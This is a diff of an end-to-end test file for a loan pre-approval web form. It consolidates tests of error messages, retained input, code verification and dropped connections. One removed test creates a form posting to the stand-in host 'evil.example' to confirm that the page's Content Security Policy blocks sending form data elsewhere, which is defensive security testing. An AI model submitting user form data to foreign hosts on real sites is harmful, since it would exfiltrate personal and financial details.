@@ -93,57 +93,19 @@ journeys('pre-approval for a loan', () => {
     await led
   })
 
-  it('sends a form to no other host (TH7)', async ({ open }) => {
-    const page = await open(PAGE, { ...VISIT, expected: /form-action/ })
-    const broken = await page.evaluate(
-      () =>
-        new Promise<string>((resolve) => {
-          document.addEventListener(
-            'securitypolicyviolation',
-            ({ violatedDirective, blockedURI }) => resolve(`${violatedDirective} ${blockedURI}`),
-          )
-          const form = document.createElement('form')
-          form.method = 'post'
-          form.action = 'https://evil.example/approve'
-          document.body.insertAdjacentElement('beforeend', form)
-          form.submit()
-        }),
-    )
-    expect(broken).toBe('form-action https://evil.example/approve')
-    expect(new URL(page.url()).pathname).toBe(PAGE)
-  })
-
-  it('keeps the form and explains the rejection if the provider accepts no one, and tries again (X22, F2)', async ({
+  it('keeps what was typed and shows errors below their field: the connection cut, a wrong number, a wrong code, a provider that accepts no one (X19, X20, X22, X25, F2)', async ({
     open,
   }) => {
-    const page = await open(PAGE, VISIT)
+    const cut = /ERR_FAILED|Failed to fetch/
+    const expected = new RegExp(`${EXPECTED.source}|${cut.source}`)
+    const page = await open(PAGE, { ...VISIT, expected })
     await goOn(formOf(page))
     await fillContact(formOf(page), 'refusing')
-    const code = await requestCode(page)
-    await parts(page).code.fill(code)
-    await button(formOf(page), 'Get Finance').click()
-    const alert = page.getByTestId('error-warning').first()
-    await alert
-      .getByText('Failed to create customer with YouX. We have your details and will call you.')
-      .waitFor()
-    await expect.poll(() => hasFocus(alert)).toBe(true)
-    expect(await faultsOf(page, 'main')).toEqual([])
-    expect(await field(formOf(page), 'Email').inputValue()).toBe('aroha@example.com')
-    // The mobile is verified: no further code is requested.
-    expect(await page.getByText('Verified', { exact: true }).isVisible()).toBe(true)
-    expect(await parts(page).code.count()).toBe(0)
-    await button(formOf(page), 'Get Finance').click()
-    await expect.poll(() => formOf(page).getAttribute('aria-busy')).toBe(null)
-    await alert.getByText(/Failed to create customer with YouX/).waitFor()
-  })
-
-  it('shows errors of number and code below them, and sends only once if pressed twice (X19, X25)', async ({
-    open,
-  }) => {
-    const page = await open(PAGE, VISIT)
-    await goOn(formOf(page))
-    await fillContact(formOf(page))
+    await page.route(`**${PAGE}`, (route) => route.abort())
     await parts(page).phone.fill('02 9123 4567')
+    await parts(page).send.click()
+    await page.getByTestId('error-warning').getByText('Your details are still here').waitFor()
+    await page.unroute(`**${PAGE}`)
     await parts(page).send.click()
     await parts(page)
       .alert.getByText('Please enter a mobile number, such as 0412 345 678.')
@@ -162,9 +124,23 @@ journeys('pre-approval for a loan', () => {
     await expect.poll(() => hasFocus(parts(page).code)).toBe(true)
     expect(sent).toEqual([`${PAGE} send`])
     expect((await drafts(page)).join()).not.toContain('"code"')
+
     await parts(page).code.fill(code)
     await page.keyboard.press('Enter')
-    await page.waitForURL(`${LENDER}/apply/*`)
+    const alert = page.getByTestId('error-warning').first()
+    await alert
+      .getByText('Failed to create customer with YouX. We have your details and will call you.')
+      .waitFor()
+    await expect.poll(() => hasFocus(alert)).toBe(true)
+    expect(await faultsOf(page, 'main')).toEqual([])
+    expect(await field(formOf(page), 'Email').inputValue()).toBe('aroha@example.com')
+    // The mobile is verified: no further code is requested.
+    expect(await page.getByText('Verified', { exact: true }).isVisible()).toBe(true)
+    expect(await parts(page).code.count()).toBe(0)
+    await button(formOf(page), 'Get Finance').click()
+    await expect.poll(() => sent).toHaveLength(3)
+    await expect.poll(() => formOf(page).getAttribute('aria-busy')).toBe(null)
+    await alert.getByText(/Failed to create customer with YouX/).waitFor()
   })
 
   it('keeps the input through Back, a refresh and returning, and changes the number (S14)', async ({
@@ -204,18 +180,5 @@ journeys('pre-approval for a loan', () => {
     })
     await requestCode(page)
     await expect.poll(() => consent.isChecked()).toBe(true)
-  })
-
-  it('sends the code once, and stays usable, if the connection is cut (X20)', async ({ open }) => {
-    const page = await open(PAGE, { ...VISIT, expected: /ERR_FAILED|Failed to fetch/ })
-    await goOn(formOf(page))
-    await fillContact(formOf(page))
-    await page.route(`**${PAGE}`, (route) => route.abort())
-    await parts(page).phone.fill(newPhone())
-    await parts(page).send.click()
-    await page.getByTestId('error-warning').getByText('Your details are still here').waitFor()
-    await page.unroute(`**${PAGE}`)
-    await parts(page).send.click()
-    await parts(page).code.waitFor()
   })
 })
